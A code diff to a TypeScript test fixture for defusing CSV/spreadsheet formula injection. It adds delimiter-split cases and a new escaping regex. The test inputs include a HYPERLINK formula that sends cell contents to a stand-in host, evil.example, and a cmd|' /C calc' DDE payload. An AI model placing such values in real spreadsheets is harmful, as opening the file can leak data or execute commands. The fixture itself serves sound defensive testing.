@@ -55,8 +55,28 @@ type Row = Record<string, Cell>
 /** Texts, some of which a spreadsheet would run as a formula, and the cells that they must become. */
 export const texts: [string, string][] = [
   ...quoted('=1+1', '=HYPERLINK("http://evil.example/?"&A1;"x")', '+49 30 1234567', '@SUM(A1:A9)', '-5'),
-  ...quoted("-2+3+cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)'),
-  ...same('1=1', ' =1', "'=1", 'x\n=1', '0042', '12.50', 'true', 'null', '', ' ', '\\N', '\\"', '\ufeffx'),
+  ...quoted("-2+3+cmd|' /C calc'!A0", "'=1", '＝1+1', '＋1', '－1', '＠SUM(A1)'),
+  // Of a spreadsheet that splits cells at semicolons, tabs or line breaks.
+  ['x;=1+1', "x;'=1+1"],
+  ['x;"=1+1"', `x;"'=1+1"`],
+  [`";"''=cmd|' /C calc'!A0`, `";"'''=cmd|' /C calc'!A0`],
+  ['a,+1;-2|@SUM(A1)', "a,'+1;'-2|'@SUM(A1)"],
+  ['\t=1+1\r=2\n-3\r\n+4\u000b＝5', "\t'=1+1\r'=2\n'-3\r\n'+4\u000b'＝5"],
+  ...same(
+    '1=1',
+    ' =1',
+    'e-mail; - or +49',
+    'M8x40, 2.5-3 mm',
+    '0042',
+    '12.50',
+    'true',
+    'null',
+    '',
+    ' ',
+    '\\N',
+    '\\"',
+    '\ufeffx',
+  ),
   ...same('Müller; "Söhne", KG', '"', '""', '","', "'", ',', ';', 'one\r\ntwo\nthree\rfour\n', 'end\r\n'),
   ...same('尺寸 🪑 مرحبا', '\u2028\u0085\u000b'),
 ]
@@ -73,7 +93,8 @@ function same(...cells: string[]): [string, string][] {
 export function inCells(records: object[]): Row[] {
   const defused = (value: Cell | object) => {
     if (typeof value === 'object' && value !== null) return JSON.stringify(value)
-    return typeof value === 'string' && /^[=+\-@\t\r\n＝＋－＠]/.test(value) ? `'${value}` : value
+    if (typeof value !== 'string') return value
+    return value.replace(/(^|[,;|\x01-\x1f])(["']*)([-=+@＝＋－＠])/g, "$1$2'$3")
   }
   return (records as Record<string, Cell | object>[]).map((record) =>
     Object.fromEntries(
